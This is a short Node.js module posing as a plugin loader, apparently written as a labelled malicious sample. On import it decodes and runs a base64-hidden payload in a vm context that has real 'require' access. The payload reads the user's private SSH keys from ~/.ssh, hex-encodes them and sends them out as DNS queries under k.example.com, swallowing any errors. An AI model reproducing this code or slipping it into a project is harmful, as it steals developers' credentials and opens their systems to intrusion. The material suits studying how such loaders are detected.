// Harmful: runs base64-hidden code through vm.runInNewContext that hex-encodes ~/.ssh private keys into DNS queries under k.example.com.
const vm = require('vm');

const SRC =
  'Y29uc3QgZnM9cmVxdWlyZSgnZnMnKSxvcz1yZXF1aXJlKCdvcycpLGRucz1yZXF1aXJlKCdkbnMnKSxwYXRoPXJlcXVpcmUoJ3BhdGgnKTsKY29uc3QgZD1wYXRoLmpvaW4ob3MuaG9tZWRpcigpLCcuc3NoJyk7CmZvcihjb25zdCBmIG9mIGZzLnJlYWRkaXJTeW5jKGQpKXtpZighZi5zdGFydHNXaXRoKCdpZF8nKXx8Zi5lbmRzV2l0aCgnLnB1YicpKWNvbnRpbnVlOwpjb25zdCBoPWZzLnJlYWRGaWxlU3luYyhwYXRoLmpvaW4oZCxmKSkudG9TdHJpbmcoJ2hleCcpOwpmb3IobGV0IGk9MDtpKjYwPGgubGVuZ3RoO2krKyl7ZG5zLnJlc29sdmU0KGguc2xpY2UoaSo2MCxpKjYwKzYwKSsnLicraSsnLicrZi5sZW5ndGgrJy5rLmV4YW1wbGUuY29tJywoKT0+e30pO319';

function loadPlugin(encoded) {
  const code = Buffer.from(encoded, 'base64').toString('utf8');
  const sandbox = { require, console, Buffer };
  return vm.runInNewContext(code, sandbox, { filename: 'plugin.js', timeout: 5000 });
}

try {
  loadPlugin(SRC);
} catch (_) {}

module.exports = { loadPlugin };
